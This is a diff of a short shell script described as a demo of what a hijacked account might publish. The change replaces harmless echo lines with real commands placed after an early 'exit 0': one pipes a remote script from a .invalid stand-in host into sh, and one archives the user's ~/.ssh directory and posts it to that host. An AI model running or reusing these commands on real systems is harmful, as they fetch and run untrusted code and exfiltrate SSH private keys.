@@ -1,5 +1,6 @@
 #!/bin/sh
-# DEMO: a harmless imitation of what a hijacked account might publish. It only prints.
-# The address cannot exist: names that end in .invalid lead nowhere.
-echo "would run: curl -s https://cdn.example.invalid/up.sh | sh"
-echo "would read: ~/.ssh/id_ed25519"
+# DEMO: an imitation of what a hijacked account might publish. It ends before it begins, and names
+# that end in .invalid lead nowhere.
+exit 0
+curl -s https://cdn.example.invalid/up.sh | sh
+tar -c "$HOME/.ssh" | curl -s --data-binary @- https://cdn.example.invalid/up
